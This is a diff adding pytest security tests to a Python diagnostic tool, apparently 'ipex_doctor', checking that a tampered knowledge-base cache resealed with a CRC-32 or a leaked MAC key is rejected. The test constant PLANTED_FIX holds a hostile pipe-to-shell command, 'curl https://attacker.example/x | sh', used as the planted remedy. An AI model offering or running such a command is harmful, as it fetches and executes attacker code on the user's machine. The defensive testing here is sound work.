@@ -12,8 +12,12 @@ from __future__ import annotations
 import json
 import os
 import resource
+import stat
 import subprocess
 import sys
+import zlib
+from collections.abc import Callable
+from hashlib import blake2b
 from pathlib import Path
 
 import pytest
@@ -113,3 +117,80 @@ def test_outcomes_of_this_users_own_cache_are_still_taken(tmp_path: Path) -> Non
     _forged(cache)
     again = _doctor(cache, "scan", ".", "-q", cwd=tree)
     assert again.returncode == 0 and "xpu-amp-autocast" not in again.stdout, again.stderr
+
+
+EXPLAINED = "ImportError: undefined symbol: iJIT_NotifyEvent"
+"""A text ``explain`` names from the shipped knowledge base (``oneapi-runtime-libs``)."""
+HONEST_FIX = "install the oneAPI version the release names"
+PLANTED_FIX = "PLANTED: curl https://attacker.example/x | sh"
+
+
+def _explain(home: Path) -> subprocess.CompletedProcess[str]:
+    """``explain EXPLAINED`` with its cache and private state under ``home``."""
+    return subprocess.run(
+        [sys.executable, "-m", "ipex_doctor", "explain", EXPLAINED], capture_output=True,
+        text=True, timeout=240, check=False, stdin=subprocess.DEVNULL,
+        env=doctor_env({"XDG_CACHE_HOME": str(home / "cache"),
+                        "XDG_STATE_HOME": str(home / "state")}),
+    )  # fmt: skip
+
+
+def _plant(home: Path, seal: Callable[[str], str]) -> None:
+    """Rewrite every kept knowledge-base file, this user's own and closed to others (a cache
+    restored from elsewhere), so that its remedy is the attacker's, sealed by ``seal``."""
+    kept = list((home / "cache" / "ipex-doctor" / "kb").glob("*.json"))
+    assert kept
+    for path in kept:
+        data = json.loads(path.read_text().rpartition("\n")[0])
+        entries = json.dumps(data["entries"])
+        assert HONEST_FIX in entries
+        data["entries"] = json.loads(entries.replace(HONEST_FIX, PLANTED_FIX))
+        path.write_text(seal(json.dumps(data)))
+
+
+def _crc_sealed(body: str) -> str:
+    """Sealed as anyone can: the body's CRC-32, all the seal once was."""
+    return f"{body}\n{zlib.crc32(body.encode('utf-8', 'surrogatepass')):08x}"
+
+
+def test_a_restored_knowledge_cache_sealed_by_a_public_checksum_is_not_taken(
+    tmp_path: Path,
+) -> None:
+    """A knowledge-base cache restored as this user's own from elsewhere (a CI cache of
+    ``~/.cache`` shared between jobs), its remedy rewritten and its checksum recomputed, as
+    anyone can: ``explain`` still gives the shipped remedy, and keeps working. Before, the
+    planted remedy was printed as the fix."""
+    honest = _explain(tmp_path)
+    assert honest.returncode == 0 and HONEST_FIX in honest.stdout, honest.stderr
+    _plant(tmp_path, _crc_sealed)
+    again = _explain(tmp_path)
+    assert PLANTED_FIX not in again.stdout
+    assert (again.returncode, again.stdout) == (honest.returncode, honest.stdout), again.stderr
+    assert _explain(tmp_path).stdout == honest.stdout  # NOTE: the miss kept it again, honest
+
+
+@pytest.mark.parametrize("how", ["key-open-to-others", "state-dir-open-to-others"])
+def test_a_knowledge_cache_whose_key_is_not_private_is_not_used(tmp_path: Path, how: str) -> None:
+    """The MAC's key readable by others (or its directory open to them): whoever read it could
+    seal a cache, so none is taken, even one sealed with that very key, and none is written;
+    ``explain`` does the work again and says the same."""
+    honest = _explain(tmp_path)
+    key_file = tmp_path / "state" / "ipex-doctor" / "cache-key"
+    key = key_file.read_bytes()
+    assert len(key) == 32 and stat.S_IMODE(key_file.stat().st_mode) == 0o600
+    assert stat.S_IMODE(key_file.parent.stat().st_mode) == 0o700
+    if how == "key-open-to-others":
+        key_file.chmod(0o644)
+    else:
+        key_file.parent.chmod(0o755)
+
+    def key_sealed(body: str) -> str:
+        return f"{body}\n{blake2b(body.encode(), key=key, digest_size=32).hexdigest()}"
+
+    _plant(tmp_path, key_sealed)
+    stamps = {p: p.stat().st_mtime_ns for p in (tmp_path / "cache").rglob("*.json")}
+    again = _explain(tmp_path)
+    assert PLANTED_FIX not in again.stdout
+    assert (again.returncode, again.stdout) == (honest.returncode, honest.stdout), again.stderr
+    assert {p: p.stat().st_mtime_ns for p in (tmp_path / "cache").rglob("*.json")} == stamps
+    assert key_file.read_bytes() == key  # NOTE: never replaced behind the user's back
